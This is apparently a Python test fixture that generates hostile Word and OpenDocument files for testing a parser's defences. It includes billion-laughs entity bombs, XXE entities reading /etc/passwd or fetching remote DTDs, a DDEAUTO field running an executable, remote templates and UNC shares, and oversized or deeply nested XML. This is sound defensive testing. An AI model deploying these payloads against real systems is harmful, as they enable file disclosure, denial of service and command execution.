"""XML that multiplies, fetches, nests or lies, in Word documents and OpenDocument texts."""

from collections.abc import Iterator

from tests.documents import samples
from tests.documents.corpus import Hostile

DEEP = 100_000


def hostile(address: str) -> Iterator[Hostile]:
    """Every one of them; what fetches, fetches from `address`."""
    for name, declaration, entity in _declarations(address):
        bomb = "grows" in name
        for part in ("word/document.xml", "[Content_Types].xml", "_rels/.rels"):
            data = samples.docx_members()[part].decode()
            yield Hostile(
                f"docx with {name} in {part}",
                samples.archive(
                    samples.docx_members() | {part: _declaring(data, declaration, entity)}
                ),
                bomb=bomb,
            )
        content = samples.odt_members()["content.xml"].decode()
        yield Hostile(
            f"odt with {name}",
            samples.archive(
                samples.odt_members() | {"content.xml": _declaring(content, declaration, entity)}
            ),
            bomb=bomb,
        )
    yield from _shapes()
    yield from _fetching(address)


def _declarations(address: str) -> Iterator[tuple[str, str, str]]:
    laughs = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "ha">' for n in range(12)
    )
    yield "an entity that grows", f"<!DOCTYPE d [{laughs}]>", "&a11;"
    long = f'<!ENTITY a "{"x" * 100_000}">'
    yield "a long entity that grows", f"<!DOCTYPE d [{long}]>", "&a;" * 2000
    yield "a file for an entity", '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"
    yield "a fetched entity", f'<!DOCTYPE d [<!ENTITY a SYSTEM "http://{address}/a">]>', "&a;"
    yield "a fetched type", f'<!DOCTYPE d SYSTEM "http://{address}/d.dtd">', ""
    loop = '<!ENTITY % p "<!ENTITY a &#39;x&#39;>"> %p;'
    yield "a parameter", f"<!DOCTYPE d [{loop}]>", "&a;"
    yield "an entity of itself", '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"


def _declaring(xml: str, declaration: str, entity: str) -> bytes:
    head, _, body = xml.partition("?>\n")
    at = body.rindex("</")
    return f"{head}?>\n{declaration}{body[:at]}{entity}{body[at:]}".encode()


def _shapes() -> Iterator[Hostile]:
    w = f'<w:document xmlns:w="{samples.W}">'
    body = f"{w}<w:body>%s</w:body></w:document>"
    table_ends = "</w:tc></w:tr></w:tbl>"
    number = f"<w:outlineLvl w:val='{'9' * 100_000}'/>"
    attributes = " ".join(f"a{n}='x'" for n in range(200_000))
    spaces = " ".join(f"xmlns:a{n}='u{n}'" for n in range(50_000))
    shapes = {
        "nested paragraphs": body % ("<w:p>" * DEEP + "</w:p>" * DEEP),
        "nested tables": body % ("<w:tbl><w:tr><w:tc>" * DEEP + table_ends * DEEP),
        "nested runs": body % f"<w:p>{'<w:r>' * 150}<w:t>x</w:t>{'</w:r>' * 150}</w:p>",
        "half a million paragraphs": body % ("<w:p/>" * 500_000),
        "half a million words": body % ("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 500_000),
        "one long word": body % f"<w:p><w:r><w:t>{'x' * 20_000_000}</w:t></w:r></w:p>",
        "a long attribute": body % f'<w:p w:x="{"x" * 10_000_000}"/>',
        "many attributes": body % f"<w:p {attributes}/>",
        "many namespaces": body % f"<w:p {spaces}/>",
        "an unclosed element": w,
        "two roots": body % "" + body % "",
        "a broken letter": body % "<w:p><w:r><w:t>\x01</w:t></w:r></w:p>",
        "sixty tables in each other": body % ("<w:tbl><w:tr><w:tc>" * 60 + table_ends * 60),
        "no namespace": "<document><body><p>words</p></body></document>",
        "a wide table": body % f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 50_000}</w:tr></w:tbl>",
        "a number for ever": body % f"<w:p><w:pPr>{number}</w:pPr></w:p>",
    }  # fmt: skip
    for name, text in shapes.items():
        whole = samples.docx_members() | {"word/document.xml": (samples.XML + text).encode()}
        yield Hostile(f"docx with {name}", samples.archive(whole))
    for encoding in ("utf-16", "utf-7", "cp037", "ascii"):
        text = f'<?xml version="1.0" encoding="{encoding}"?>' + body % "<w:p/>"
        whole = samples.docx_members() | {"word/document.xml": text.encode(encoding)}
        yield Hostile(f"docx written in {encoding}", samples.archive(whole))
    yield Hostile("docx that grows in two bytes a letter", samples.xml_bomb_utf16_docx(), bomb=True)
    spaces = f'<text:s text:c="{10**9}"/>' * 1000
    yield Hostile("odt with a million million spaces", samples.odt_with(spaces))
    deep = "<text:span>" * 5000 + "</text:span>" * 5000
    yield Hostile("odt with nested spans", samples.odt_with(f"<text:p>{deep}</text:p>"))
    lists = "<text:list><text:list-item>" * 5000 + "</text:list-item></text:list>" * 5000
    yield Hostile("odt with nested lists", samples.odt_with(lists))
    rows = '<table:table-row table:number-rows-repeated="1000000000"/>' * 100
    table = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    yield Hostile(
        "odt with rows for ever", samples.odt_with(f"<table:table {table}>{rows}</table:table>")
    )


def _fetching(address: str) -> Iterator[Hostile]:
    yield Hostile("docx with a fetched template", samples.external_docx(f"http://{address}/t.dotm"))
    yield Hostile(
        "docx with a template on a share", samples.external_docx(f"\\\\{address}\\t.dotm")
    )
    for order in ("DDEAUTO c:\\\\run.exe", f'INCLUDEPICTURE "http://{address}/p.png" \\d'):
        yield Hostile(f"docx with the field {order[:14]}", samples.field_docx(order))
    for kind in ("image", "aFChunk", "oleObject", "subDocument", "frame"):
        links = samples.relationships((kind, f"http://{address}/{kind}", True))
        yield Hostile(
            f"docx with a fetched {kind}",
            samples.archive(samples.docx_members() | {"word/_rels/document.xml.rels": links}),
        )
    for markup in (
        f'<text:section-source xlink:href="http://{address}/s"/>',
        f'<draw:image xlink:href="http://{address}/i.png"/>',
        f'<draw:object xlink:href="http://{address}/o"/>',
        "<script:event-listener/>",
    ):
        yield Hostile(f"odt with {markup[:22]}", samples.odt_with(markup))
